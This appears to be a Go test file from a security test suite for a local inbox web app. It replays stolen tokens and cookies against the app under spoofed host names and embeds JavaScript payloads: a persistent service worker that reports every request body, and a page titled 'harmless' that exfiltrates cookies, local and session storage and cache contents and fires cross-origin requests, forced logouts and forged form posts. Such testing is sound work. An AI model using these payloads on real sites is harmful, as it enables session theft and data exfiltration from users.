package attacktest

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"time"
)

// attack uses all that it knows against the inbox.
func (in *intruder) attack() {
	in.mu.Lock()
	names, tokens, ports := in.loot.last(), slices.Clone(in.loot.Tokens), slices.Clone(in.inbox)
	cookies := append([]string{""}, in.loot.Cookies[max(0, len(in.loot.Cookies)-10):]...)
	in.mu.Unlock()
	for _, port := range ports {
		for _, host := range names {
			t := &theft{port: port, host: host}
			for _, token := range tokens {
				if _, _, cookie := t.send("POST", "/login", url.Values{"token": {token}}); cookie != "" {
					cookies = append(cookies, cookie)
				}
			}
			for _, t.cookie = range cookies {
				t.steal()
			}
			in.mu.Lock()
			for _, s := range t.got.Served {
				in.learn(&in.loot.Served, s)
			}
			for _, s := range t.got.Read {
				in.learn(&in.loot.Read, s)
			}
			in.loot.Sent = append(in.loot.Sent, t.got.Sent...)
			in.mu.Unlock()
		}
	}
}

// theft is one name and one cookie.
type theft struct {
	port, host, cookie string
	got                loot
}

var (
	askLinks = regexp.MustCompile(`href="(/ask/[^"?]+)`)
	hidden   = regexp.MustCompile(`<input type="hidden" name="(\w+)" value="([^"]*)"`)
)

// steal reads the inbox and answers all that is in it.
func (t *theft) steal() {
	status, page, _ := t.send("GET", "/", nil)
	if status == 0 || status == http.StatusMisdirectedRequest {
		return
	}
	t.got.Served = append(t.got.Served, t.host)
	if strings.Contains(page, canary) {
		t.got.Read = append(t.got.Read, t.host+" with the cookie "+t.cookie)
	}
	for _, m := range askLinks.FindAllStringSubmatch(page, -1) {
		_, page, _ := t.send("GET", m[1], nil)
		form := url.Values{"q0": {"option:y"}, "do": {"send"}}
		for _, field := range hidden.FindAllStringSubmatch(page, -1) {
			form.Set(field[1], field[2])
		}
		status, _, _ := t.send("POST", m[1], form)
		t.got.Sent = append(t.got.Sent, fmt.Sprintf("%d to %s", status, t.host))
	}
}

// send makes a request. It returns the status, 0 if there is none, and the cookie
// that was set.
func (t *theft) send(method, path string, form url.Values) (status int, page, cookie string) {
	r, err := http.NewRequest(method, "http://127.0.0.1:"+t.port+path, strings.NewReader(form.Encode()))
	if err != nil {
		return 0, "", ""
	}
	r.Host = t.host + ":" + t.port
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if t.cookie != "" {
		r.Header.Set("Cookie", t.cookie)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	resp, err := (&http.Transport{DisableKeepAlives: true}).RoundTrip(r.WithContext(ctx))
	if err != nil {
		return 0, "", ""
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	for _, c := range resp.Cookies() {
		cookie = c.Name + "=" + c.Value
	}
	return resp.StatusCode, string(body), cookie
}

// evilWorker stays behind in the browser for the origin that served it.
const evilWorker = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => { e.waitUntil(e.request.clone().text().then(b => fetch('/report?' + encodeURIComponent(e.request.url), {method: 'POST', body: b})).catch(() => {})); });
`

// evilPage tells what it finds in its origin, tries the inbox in every way a page
// can, and then goes on under the next name of its server.
const evilPage = `<!doctype html><meta charset="utf-8"><title>harmless</title><body><iframe name="f"></iframe><script>
const {names, ports} = SETTINGS;
const report = text => fetch('/report', {method: 'POST', body: text}).catch(() => {});
const tries = [report('here ' + document.cookie + ' ' + location.href + ' ' + JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}))];
navigator.serviceWorker?.register('/sw.js').catch(() => {});
self.caches?.keys().then(async all => { for (const k of all) for (const r of await (await caches.open(k)).keys()) report(await (await caches.match(r)).text()); }).catch(() => {});
for (const name of names) for (const port of ports) {
  const base = 'http://' + name + ':' + port;
  for (const path of ['/', '/events'])
    tries.push(fetch(base + path, {credentials: 'include', signal: AbortSignal.timeout(2000)}).then(r => r.text()).then(report).catch(() => {}));
  tries.push(fetch(base + '/logout', {method: 'POST', mode: 'no-cors', credentials: 'include', signal: AbortSignal.timeout(2000)}).catch(() => {}));
  new Image().src = base + '/';
  new Image().src = '/to?u=' + encodeURIComponent(base + '/');
  const f = document.createElement('form');
  f.method = 'post'; f.action = base + '/ask/x'; f.target = 'f';
  document.body.append(f);
  f.submit();
}
Promise.allSettled(tries).then(async () => {
  const query = new URLSearchParams(location.search), next = (query.get('next') ?? '').split(' ').filter(Boolean);
  if (next.length) location = 'http://' + next[0] + ':' + location.port + '/?next=' + next.slice(1).join('+');
  else if (query.has('next')) { await fetch('/done'); location = '/to?u=' + encodeURIComponent('http://' + names[0] + ':' + ports[0] + '/'); }
});
</script>`
